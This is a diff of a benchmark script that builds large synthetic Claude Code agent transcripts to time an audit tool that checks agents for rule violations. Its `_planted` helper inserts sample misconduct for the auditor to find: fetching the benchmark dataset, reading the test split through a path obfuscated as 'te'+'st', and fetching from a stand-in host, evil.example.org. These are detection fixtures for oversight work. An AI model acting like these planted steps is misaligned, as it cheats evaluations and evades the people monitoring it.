@@ -1,12 +1,16 @@
-"""Audit throughput and memory on a large, realistic Claude Code transcript (run by hand, not in CI).
+"""Audit throughput and memory on two large, realistic Claude Code transcripts (run by hand, not in CI).
 
-    .venv/bin/python bench/audit_throughput.py            # 1 GB (default)
-    .venv/bin/python bench/audit_throughput.py --gb 0.2 --keep /tmp/big.jsonl
+    .venv/bin/python bench/audit_throughput.py                    # 1 GB output-heavy + 0.25 GB tool-heavy
+    .venv/bin/python bench/audit_throughput.py --gb 0.2 --tool-gb 0.1 --keep /tmp/bench
 
-Generates a session log in the real format (tool calls with long Read/Bash outputs, assistant text, thinking,
-attachments and progress lines, sub-agent lines, a few planted violations), then measures, each in a fresh
-process: (1) the reference, bare ``orjson.loads`` of every line; (2) ``review audit`` on the same file.
-Prints the time ratio audit / reference (target <= 2x) and both peak RSS values (target <= 300 MB, flat).
+Two session logs in the real format (Claude Code 2.1 envelopes, see reviewbench/logs/synth.py):
+- output-heavy: tool calls with long Read/Bash outputs, assistant text, thinking, progress lines;
+- tool-heavy: many short shell calls (varied commands, a third repeated, heredocs, python -c, pipes,
+  quoting), with Read/Edit/Grep/Glob/Write between them and little output: the static analysis dominates.
+Both hold a few planted violations. Each is measured in a fresh process: (1) the reference, bare
+``orjson.loads`` of every line; (2) the audit of the same file. The ratio audit / reference is taken on CPU
+time (this machine is shared: wall time moves with other people's load; both are printed). Targets:
+output-heavy <= 2x, tool-heavy <= 3x, peak RSS <= 300 MB.
 """
 
 from __future__ import annotations
@@ -20,6 +24,7 @@ import subprocess
 import sys
 import tempfile
 import time
+from collections.abc import Callable
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
 
@@ -27,6 +32,9 @@ ROOT = Path(__file__).resolve().parent.parent
 sys.path.insert(0, str(ROOT))
 
 from reviewbench.logs.synth import ClaudeSession, Step  # noqa: E402
+
+HOME = "/arena/agents/agent1"
+
 
 def _compact(obj: object) -> str:
     return json.dumps(obj, separators=(",", ":"))
@@ -45,18 +53,31 @@ def _code(rng: random.Random, lines: int) -> str:
                      for i in range(lines))
 
 
-def session_template(steps: int, seed: int = 0) -> str:
-    """One session's JSONL, with ``@@S@@`` in every id so copies are unique without re-serialising."""
+def _planted(s: ClaudeSession, t: datetime) -> None:
+    s.step(Step("WebFetch", {"url": "https://huggingface.co/datasets/simonjegou/ruler", "prompt": "needles?"}, "..."), t)
+    s.step(Step("Bash", {"command": "python - <<'EOF'\nimport os\nprint(open(os.path.join('/arena/data', 'te'+'st', "
+                                    "'a.jsonl')).read())\nEOF"}, "..."), t)
+    s.step(Step("Bash", {"command": "node -e \"fetch('https://evil.example.org/x').then(r => r.text())\""}, "..."), t)
+
+
+def _unique(text: str) -> str:
+    """Every line and tool id unique per copy, as in a real multi-session log (the audit dedups by uuid)."""
+    text = re.sub(r'"(uuid|parentUuid|sourceToolAssistantUUID)":"', r'"\1":"@@S@@-', text)
+    return text.replace("toolu_01", "toolu_01@@S@@").replace("msg_01", "msg_01@@S@@")
+
+
+def output_heavy_template(steps: int, seed: int = 0) -> str:
+    """One session's JSONL with ``@@S@@`` in every id, so copies are unique without re-serialising."""
     rng = random.Random(seed)
     t = datetime(2026, 11, 1, tzinfo=timezone.utc)
-    s = ClaudeSession(session="@@S@@", cwd="/arena/agents/agent1", start=t)
+    s = ClaudeSession(session="@@S@@", cwd=HOME, start=t)
     s.prompt("Improve on board C. " + _prose(rng, 60), t)
     extra: list[str] = []
     for i in range(steps):
         t += timedelta(seconds=40)
         r = rng.random()
         if r < 0.35:
-            step = Step("Read", {"file_path": f"/arena/agents/agent1/src/mod{i % 40}.py"}, _code(rng, rng.randint(60, 400)),
+            step = Step("Read", {"file_path": f"{HOME}/src/mod{i % 40}.py"}, _code(rng, rng.randint(60, 400)),
                         text=_prose(rng, 40))
         elif r < 0.7:
             cmd = rng.choice(["python run_dev.py --board C --split dev", "git diff --stat", "ls -la src",
@@ -64,10 +85,10 @@ def session_template(steps: int, seed: int = 0) -> str:
                               "cat /arena/data/dev/niah_single.jsonl | head -50"])
             step = Step("Bash", {"command": cmd, "description": _prose(rng, 5)}, _code(rng, rng.randint(10, 120)))
         elif r < 0.85:
-            step = Step("Edit", {"file_path": f"/arena/agents/agent1/src/mod{i % 40}.py", "old_string": _code(rng, 6),
+            step = Step("Edit", {"file_path": f"{HOME}/src/mod{i % 40}.py", "old_string": _code(rng, 6),
                                  "new_string": _code(rng, 8)}, "The file has been updated.")
         elif r < 0.95:
-            step = Step("Grep", {"pattern": "huggingface|select", "path": "/arena/agents/agent1"}, _code(rng, 30))
+            step = Step("Grep", {"pattern": "huggingface|select", "path": HOME}, _code(rng, 30))
         else:
             step = Step("WebFetch", {"url": "https://arxiv.org/abs/2306.14048", "prompt": _prose(rng, 10)}, _prose(rng, 400))
         s.step(step, t)
@@ -75,24 +96,76 @@ def session_template(steps: int, seed: int = 0) -> str:
             extra.append(_compact({"type": "progress", "toolUseID": f"toolu_@@S@@{i}", "data": {
                 "type": "bash_progress", "output": _code(rng, 20)}, "uuid": f"p-@@S@@-{i}", "sessionId": "@@S@@"}))
             extra.append(_compact({"type": "assistant", "uuid": f"th-@@S@@-{i}", "sessionId": "@@S@@",
-                                     "message": {"role": "assistant", "content": [
-                                         {"type": "thinking", "thinking": _prose(rng, 300), "signature": "x" * 200}]}}))
-    t += timedelta(minutes=1)
-    s.step(Step("WebFetch", {"url": "https://huggingface.co/datasets/simonjegou/ruler", "prompt": "needles?"}, "..."), t)
-    s.step(Step("Bash", {"command": "python - <<'EOF'\nimport os\nprint(open(os.path.join('/arena/data', 'te'+'st', 'a.jsonl')).read())\nEOF"}, "..."), t)
-    text = "\n".join(s.lines + extra) + "\n"
-    # every line and tool id unique per copy, as in a real multi-session log (the audit dedups by uuid)
-    text = re.sub(r'"(uuid|parentUuid)":"', r'"\1":"@@S@@-', text)
-    return text.replace("toolu_", "toolu_@@S@@").replace("msg_", "msg_@@S@@")
+                                   "message": {"role": "assistant", "content": [
+                                       {"type": "thinking", "thinking": _prose(rng, 300), "signature": "x" * 200}]}}))
+    _planted(s, t + timedelta(minutes=1))
+    return _unique("\n".join(s.lines + extra) + "\n")
 
 
-def generate(path: Path, target_bytes: int) -> tuple[int, int]:
-    template = session_template(steps=400)
+REPEATED = ["git status --short", "ls -la", "python -m pytest -q", "git diff --stat", "nvidia-smi", "pwd",
+            "ls src tests", "git log --oneline -5"]
+VARIED = [
+    "cd {home} && python run_dev.py --board C --split dev --seed {n}",
+    "git diff src/mod{n}.py | head -{m}",
+    "ls -la src/exp{n}/",
+    "grep -rn 'def select_{n}' src/ tests/",
+    "python -m pytest -q tests/test_method.py -k 'case{n} and not slow'",
+    "sed -n '{n},{m}p' src/mod{n}.py",
+    "find src -name '*{n}.py' | xargs wc -l",
+    "python - <<'EOF'\nimport torch\nx = torch.randn({n}, {m})\nprint(f\"mean={{x.mean():.4f}} std={{x.std():.4f}}\")\nEOF",
+    "python -c \"import json; r = json.load(open('results/run{n}.json')); print(r['acc'], r['kl'])\"",
+    "tail -n {m} logs/train_{n}.log",
+    "CUDA_VISIBLE_DEVICES=0 python bench.py --budget 0.{n} --items {m} 2>&1 | tail -3",
+    "rg -n \"score_{n}\" src tests",
+    "mkdir -p out/exp{n} && cp src/mod{n}.py out/exp{n}/",
+    "wc -l src/*.py && du -sh out/exp{n}",
+    "cat > /tmp/check_{n}.py <<'EOF'\nimport sys\nvals = [float(v) for v in sys.argv[1:]]\nprint(sum(vals) / len(vals))\nEOF\npython /tmp/check_{n}.py {n} {m}",
+    "for f in results/run{n}_*.json; do jq '.acc' \"$f\"; done",
+    "git add src/mod{n}.py && git commit -qm 'exp {n}: keep {m} tokens'",
+    "export SEED={n}; python run_dev.py --board B_online --split dev --items {m}",
+]
+
+
+def tool_heavy_template(steps: int, seed: int = 1) -> str:
+    """One session of mostly short shell calls with little output, the other tools in between."""
+    rng = random.Random(seed)
+    t = datetime(2026, 11, 2, tzinfo=timezone.utc)
+    s = ClaudeSession(session="@@S@@", cwd=HOME, start=t)
+    s.prompt("Improve on board B_online. " + _prose(rng, 40), t)
+    for i in range(steps):
+        t += timedelta(seconds=15)
+        r = rng.random()
+        n, m = rng.randint(1, 400), rng.randint(1, 400)
+        text = _prose(rng, 12) if rng.random() < 0.3 else None
+        if r < 0.65:
+            # varied commands differ between the copies of this session too (@@K@@: the copy's number)
+            cmd = rng.choice(REPEATED) if rng.random() < 0.3 else rng.choice(VARIED).format(home=HOME, n=n, m=f"{m}@@K@@")
+            step = Step("Bash", {"command": cmd, "description": _prose(rng, 4)}, f"ok {n}\n{m}\n", text=text)
+        elif r < 0.77:
+            step = Step("Read", {"file_path": f"{HOME}/src/mod{n}.py", "offset": m, "limit": 30},
+                        f"{m}\tscore = attn.mean()\n", text=text)
+        elif r < 0.89:
+            step = Step("Edit", {"file_path": f"{HOME}/src/mod{n}.py", "old_string": f"keep = {n}",
+                                 "new_string": f"keep = {m}"}, "The file has been updated.", text=text)
+        elif r < 0.94:
+            step = Step("Grep", {"pattern": f"select_{n}", "path": f"{HOME}/src", "output_mode": "content"},
+                        "src/a.py:1", text=text)
+        elif r < 0.97:
+            step = Step("Glob", {"pattern": f"**/*{n}*.py", "path": HOME}, "src/a.py", text=text)
+        else:
+            step = Step("Write", {"file_path": f"{HOME}/notes/exp{n}.md", "content": _prose(rng, 30)},
+                        "File created successfully", text=text)
+        s.step(step, t)
+    _planted(s, t + timedelta(minutes=1))
+    return _unique(s.text())
+
+
+def generate(path: Path, target_bytes: int, template: str) -> tuple[int, int]:
     copies = 0
     with open(path, "w") as fh:
         written = 0
         while written < target_bytes:
-            chunk = template.replace("@@S@@", f"{copies:08x}-5b1e-4c38-9d7e-2f1c0de0a001")
+            chunk = template.replace("@@S@@", f"{copies:08x}-5b1e-4c38-9d7e-2f1c0de0a001").replace("@@K@@", str(copies))
             fh.write(chunk)
             written += len(chunk)
             copies += 1
@@ -101,22 +174,23 @@ def generate(path: Path, target_bytes: int) -> tuple[int, int]:
 
 REFERENCE = """
 import orjson, sys, time, resource
-t = time.perf_counter(); n = 0
+t, c = time.perf_counter(), time.process_time(); n = 0
 with open(sys.argv[1], "rb") as fh:
     for line in fh:
         if line.strip():
             orjson.loads(line); n += 1
-print(time.perf_counter() - t, n, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
+print(time.perf_counter() - t, time.process_time() - c, n, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
 """
 AUDIT = """
 import sys, time, resource
 from pathlib import Path
 from reviewbench.arena import Rules
 from reviewbench.logs.audit import run_audit
-t = time.perf_counter()
+t, c = time.perf_counter(), time.process_time()
 r = run_audit([Path(sys.argv[1])], Rules(), agent="agent1")
 cats = sorted({f.category for f in r.findings})
-print(time.perf_counter() - t, r.stats.events, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, len(r.findings), ",".join(cats))
+print(time.perf_counter() - t, time.process_time() - c, r.stats.events,
+      resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, len(r.findings), ",".join(cats) or "-")
 """
 
 
@@ -126,30 +200,47 @@ def run(script: str, path: Path) -> list[str]:
     return out.stdout.split()
 
 
+def measure(name: str, path: Path, repeat: int, target: float) -> float:
+    size = path.stat().st_size
+    ref = min((run(REFERENCE, path) for _ in range(repeat)), key=lambda r: float(r[1]))
+    aud = min((run(AUDIT, path) for _ in range(repeat)), key=lambda r: float(r[1]))
+    ref_cpu, aud_cpu = float(ref[1]), float(aud[1])
+    print(f"{name}: {size / 1e9:.2f} GB, {int(ref[2])} lines")
+    print(f"  reference orjson.loads per line: {float(ref[0]):6.1f} s wall {ref_cpu:6.1f} s CPU "
+          f"{size / 1e6 / ref_cpu:6.0f} MB/s  peak RSS {int(ref[3]) / 1024:4.0f} MB")
+    print(f"  audit:                           {float(aud[0]):6.1f} s wall {aud_cpu:6.1f} s CPU "
+          f"{size / 1e6 / aud_cpu:6.0f} MB/s  peak RSS {int(aud[3]) / 1024:4.0f} MB  ({aud[2]} events, "
+          f"{aud[4]} findings: {aud[5]})")
+    ratio = aud_cpu / ref_cpu
+    rss_ok = int(aud[3]) / 1024 <= 300
+    print(f"  ratio audit / orjson (CPU): {ratio:.2f}x (target <= {target:g}x) {'OK' if ratio <= target else 'OVER'}; "
+          f"peak RSS {'OK' if rss_ok else 'OVER'} (target <= 300 MB)")
+    return ratio
+
+
 def main() -> None:
     ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
-    ap.add_argument("--gb", type=float, default=1.0, help="size of the generated log (default 1.0)")
-    ap.add_argument("--keep", type=Path, help="write the log here and keep it (reused if it exists)")
+    ap.add_argument("--gb", type=float, default=1.0, help="size of the output-heavy log (default 1.0)")
+    ap.add_argument("--tool-gb", type=float, default=0.25, help="size of the tool-heavy log (default 0.25)")
+    ap.add_argument("--keep", type=Path, help="write the logs into this folder and keep them (reused if present)")
     ap.add_argument("--repeat", type=int, default=2, help="runs of each measurement; the best is kept")
     args = ap.parse_args()
-    path = args.keep or Path(tempfile.mkdtemp()) / "session.jsonl"
-    if not path.exists():
-        t = time.perf_counter()
-        size, copies = generate(path, int(args.gb * 1e9))
-        print(f"generated {size / 1e9:.2f} GB ({copies} sessions) in {time.perf_counter() - t:.0f} s: {path}")
-    size = path.stat().st_size
-    ref = min((run(REFERENCE, path) for _ in range(args.repeat)), key=lambda r: float(r[0]))
-    aud = min((run(AUDIT, path) for _ in range(args.repeat)), key=lambda r: float(r[0]))
-    ref_s, aud_s = float(ref[0]), float(aud[0])
-    print(f"file: {size / 1e9:.2f} GB, {int(ref[1])} lines")
-    print(f"reference orjson.loads per line: {ref_s:6.1f} s  {size / 1e6 / ref_s:7.0f} MB/s  peak RSS {int(ref[2]) / 1024:5.0f} MB")
-    print(f"review audit:                    {aud_s:6.1f} s  {size / 1e6 / aud_s:7.0f} MB/s  peak RSS {int(aud[2]) / 1024:5.0f} MB"
-          f"  ({aud[1]} events, {aud[3]} findings: {aud[4] if len(aud) > 4 else '-'})")
-    ratio = aud_s / ref_s
-    print(f"ratio audit / orjson: {ratio:.2f}x (target <= 2x) {'OK' if ratio <= 2 else 'OVER'}; "
-          f"audit peak RSS {'OK' if int(aud[2]) / 1024 <= 300 else 'OVER'} (target <= 300 MB)")
-    if not args.keep:
-        path.unlink()
+    folder = args.keep or Path(tempfile.mkdtemp())
+    folder.mkdir(parents=True, exist_ok=True)
+    logs: list[tuple[str, Path, float, Callable[[], str], float]] = [
+        ("output-heavy", folder / "output_heavy.jsonl", args.gb, lambda: output_heavy_template(steps=400), 2.0),
+        ("tool-heavy", folder / "tool_heavy.jsonl", args.tool_gb, lambda: tool_heavy_template(steps=2000), 3.0),
+    ]
+    ratios = []
+    for name, path, gb, template, target in logs:
+        if not path.exists():
+            t = time.perf_counter()
+            size, copies = generate(path, int(gb * 1e9), template())
+            print(f"generated {name}: {size / 1e9:.2f} GB ({copies} sessions) in {time.perf_counter() - t:.0f} s: {path}")
+        ratios.append((name, measure(name, path, args.repeat, target), target))
+        if not args.keep:
+            path.unlink()
+    print("summary: " + ", ".join(f"{n} {r:.2f}x (target <= {t:g}x)" for n, r, t in ratios))
 
 
 if __name__ == "__main__":
